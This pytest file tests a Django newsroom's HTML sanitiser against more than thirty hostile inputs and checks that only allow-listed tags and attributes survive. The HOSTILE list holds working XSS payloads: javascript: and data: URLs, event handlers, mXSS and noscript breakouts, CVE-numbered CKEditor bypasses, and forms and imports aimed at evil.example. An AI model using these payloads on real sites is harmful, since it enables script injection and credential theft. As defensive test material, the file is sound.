"""The body sanitiser against hostile input: only what the newsroom toolbar makes survives.

Each case is checked by parsing the output: every tag and attribute must be on
the allow-list, no URL may run code or point outside the site's media for
images, and the readable text the journalist meant is kept.
"""

from html.parser import HTMLParser

import pytest

from articles.richtext import ALLOWED_TAGS, sanitize_html
from tests.factories import make_article

HOSTILE = [
    ("script tag", "<p>Tin</p><script>alert(1)</script>"),
    ("img onerror", '<img src="/media/uploads/a.jpg" onerror="alert(1)">'),
    ("javascript link", '<a href="javascript:alert(1)">Xem</a>'),
    ("mixed-case javascript", '<a href="JaVaScRiPt:alert(1)">Xem</a>'),
    ("entity-split javascript", '<a href="jav&#x09;ascript:alert(1)">Xem</a>'),
    ("vbscript link", '<a href="vbscript:msgbox(1)">Xem</a>'),
    ("data html link", '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">Xem</a>'),
    ("data svg image", '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" alt="x">'),
    ("foreign image", '<img src="https://evil.example/track.png" alt="x">'),
    ("protocol-relative image", '<img src="//evil.example/x.png" alt="x">'),
    ("media path climbing", '<img src="/media/../../etc/passwd" alt="x">'),
    ("iframe", '<p>Trước</p><iframe src="https://evil.example"></iframe><p>Sau</p>'),
    ("iframe srcdoc", '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>'),
    ("form", '<form action="https://evil.example"><input name="pass"><button>Gửi</button></form>'),
    ("style url", '<p style="background:url(javascript:alert(1))">Chữ</p>'),
    ("style expression", '<p style="width: expression(alert(1))">Chữ</p>'),
    ("style tag import", '<style>@import "https://evil.example/x.css";</style><p>Chữ</p>'),
    ("svg onload", '<svg onload="alert(1)"><circle r="1"></circle></svg><p>Chữ</p>'),
    (
        "math mxss",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    ),
    ("object and embed", '<object data="evil.swf"></object><embed src="evil.swf">'),
    (
        "ckeditor protected source comment (CVE-2021-41164)",
        "<p><!--{cke_protected}%3Cscript%3Ealert(1)%3C%2Fscript%3E--></p>",
    ),
    (
        "ckeditor saved href (CVE-2021-32809)",
        '<a data-cke-saved-href="javascript:alert(1)" href="https://hoangnam.gov.vn">Xem</a>',
    ),
    (
        "ckeditor widget data (CVE-2021-32808)",
        '<figure class="image" data-cke-widget-data="%7B%22src%22%3A%22javascript%3Aalert(1)%22%7D"><img src="/media/uploads/a.jpg" alt="a"></figure>',
    ),
    (
        "noscript title breakout (CVE-2022-24728 style)",
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></p></noscript>',
    ),
    ("textarea breakout", "<textarea><img src=x onerror=alert(1)></textarea>"),
    ("meta refresh", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'),
    ("base href", '<base href="https://evil.example/"><a href="/x">Xem</a>'),
    ("event handler on paragraph", '<p onmouseover="alert(1)">Di chuột</p>'),
    ("table background", '<table background="javascript:alert(1)"><tr><td>1</td></tr></table>'),
    ("oembed media", '<oembed url="https://evil.example/v"></oembed>'),
    ("link target blank", '<a href="https://hoangnam.gov.vn" target="_blank" onclick="steal()">Xem</a>'),
    (
        "unknown class",
        '<figure class="image evil-overlay"><img class="image-left x" src="/media/uploads/a.jpg" alt="a"></figure>',
    ),
    ("id clobbering", '<p id="csrfmiddlewaretoken" name="x">Chữ</p>'),
]

# Readable words that must survive the cleaning (empty: nothing needs to).
KEPT_TEXT = {
    "script tag": "Tin",
    "javascript link": "Xem",
    "iframe": "Sau",
    "style url": "Chữ",
    "svg onload": "Chữ",
    "event handler on paragraph": "Di chuột",
    "table background": "1",
    "base href": "Xem",
    "link target blank": "Xem",
    "form": "Gửi",
}
SAFE_ATTRIBUTES = {
    "a": {"href", "title", "rel"},
    "img": {"src", "alt", "width", "height", "loading", "decoding", "class"},
    "figure": {"class"},
    "th": {"colspan", "rowspan", "scope"},
    "td": {"colspan", "rowspan"},
}


class Collector(HTMLParser):
    def __init__(self):
        super().__init__()
        self.elements, self.comments, self.text = [], [], ""

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, dict(attrs)))

    def handle_comment(self, data):
        self.comments.append(data)

    def handle_data(self, data):
        self.text += data


def parsed(html):
    collector = Collector()
    collector.feed(html)
    collector.close()
    return collector


@pytest.mark.parametrize("name, html", HOSTILE, ids=[name for name, _ in HOSTILE])
def test_hostile_body_is_reduced_to_the_allow_list(name, html):
    result = parsed(sanitize_html(html))
    assert not result.comments
    for tag, attributes in result.elements:
        assert tag in ALLOWED_TAGS
        assert set(attributes) <= SAFE_ATTRIBUTES.get(tag, set()), (tag, attributes)
        for value in attributes.values():
            assert not value.lower().lstrip().startswith(("javascript:", "vbscript:", "data:"))
        if tag == "img" and "src" in attributes:
            assert attributes["src"].startswith("/media/") and ".." not in attributes["src"]
        if tag == "a":
            assert attributes["rel"] == "noopener noreferrer"
        if tag == "img":
            assert attributes["loading"] == "lazy"
    assert KEPT_TEXT.get(name, "") in result.text


def test_there_are_at_least_twenty_hostile_cases():
    assert len(HOSTILE) >= 20


def test_what_the_toolbar_makes_survives_unchanged_in_meaning():
    html = (
        "<h2>Mục</h2><h3>Ý</h3><h4>Nhỏ</h4><p><strong>Đậm</strong> <em>nghiêng</em></p>"
        "<ul><li>Một</li></ul><ol><li>Hai</li></ol><blockquote><p>Trích</p></blockquote>"
        '<p><a href="https://hoangnam.gov.vn/tin">Liên kết</a></p>'
        '<figure class="image image-center"><img src="/media/uploads/2024/05/a.jpg" alt="Cầu" width="800" height="533">'
        "<figcaption>Chú thích</figcaption></figure>"
        '<table><caption>Bảng</caption><thead><tr><th scope="col">A</th></tr></thead>'
        '<tbody><tr><td colspan="2">1</td></tr></tbody></table>'
    )
    result = parsed(sanitize_html(html))
    tags = [tag for tag, _ in result.elements]
    assert tags == [
        "h2",
        "h3",
        "h4",
        "p",
        "strong",
        "em",
        "ul",
        "li",
        "ol",
        "li",
        "blockquote",
        "p",
        "p",
        "a",
        "figure",
        "img",
        "figcaption",
        "table",
        "caption",
        "thead",
        "tr",
        "th",
        "tbody",
        "tr",
        "td",
    ]
    attributes = dict(result.elements)
    assert attributes["figure"] == {"class": "image image-center"}
    assert attributes["img"]["src"] == "/media/uploads/2024/05/a.jpg"
    assert (attributes["img"]["width"], attributes["img"]["height"]) == ("800", "533")
    assert attributes["a"]["href"] == "https://hoangnam.gov.vn/tin"
    assert "Chú thích" in result.text


@pytest.mark.django_db
def test_every_save_path_sanitises_the_body():
    article = make_article(body='<p onclick="x()">Chữ<script>alert(1)</script></p>')
    article.refresh_from_db()
    assert article.body == "<p>Chữ</p>"
